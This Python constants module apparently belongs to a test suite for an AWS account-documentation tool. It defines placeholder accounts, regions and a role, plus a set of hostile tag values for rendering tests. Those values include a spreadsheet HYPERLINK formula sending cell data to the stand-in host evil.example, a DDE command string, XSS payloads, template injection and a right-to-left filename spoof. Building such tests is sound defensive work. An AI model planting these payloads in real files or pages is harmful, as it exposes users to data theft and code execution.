"""Constants -> the invented company of the demo: its accounts, regions, role and the text meant to break a renderer."""

from __future__ import annotations

from typing import Final

PRODUCTION: Final = "111122223333"
DEVELOPMENT: Final = "444455556666"
ACCOUNTS: Final = (PRODUCTION, DEVELOPMENT)
NAMES: Final = {PRODUCTION: "example-production", DEVELOPMENT: "example-development"}
SANDBOX: Final = "777788889999"
"""A member of the organization whose role nobody made: it cannot be entered."""
CLOSED: Final = "888899990000"
ROOT: Final = "r-ex01"
UNIT_WORKLOADS: Final = "ou-ex01-workload"
UNIT_SANDBOXES: Final = "ou-ex01-sandboxx"
ORGANIZATION: Final = "Example Ltd"
SYSTEM: Final = "Billing platform"

EUROPE: Final = "eu-west-1"
AMERICA: Final = "us-east-1"
REGIONS: Final = (EUROPE, AMERICA)
ENABLED_REGIONS: Final = ("eu-central-1", "eu-north-1", EUROPE, AMERICA)
"""What DescribeRegions answers. The two that REGIONS lacks must show as out of scope by configuration."""

READER: Final = "srm-docs-reader"

HOSTILE: Final = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "command": "+cmd|' /C calc'!A0",
    "markup": "<script>alert('xss')</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{ 7*7 }}{% raw %}",
    "markdown": "](javascript:alert(1)) | pipe | `tick` **bold**",
    "reversed": "invoice-\u202egnp.exe\u202c \u0645\u0631\u062d\u0628\u0627",
    "long": "\u8acb\u6c42\u66f8\u51e6\u7406\u30b5\u30fc\u30d0\u30fc" * 24,
    "control": "tab\there\u0085bell\u009fend",
}
"""Tag values that AWS would accept or nearly so; every output must show them as text. Control characters are the C1
block, because XML 1.0 has no way to carry most of C0 and AWS refuses them too."""


def reader_arn(account: str) -> str:
    """The role that the collector assumes in `account`."""
    return f"arn:aws:iam::{account}:role/{READER}"
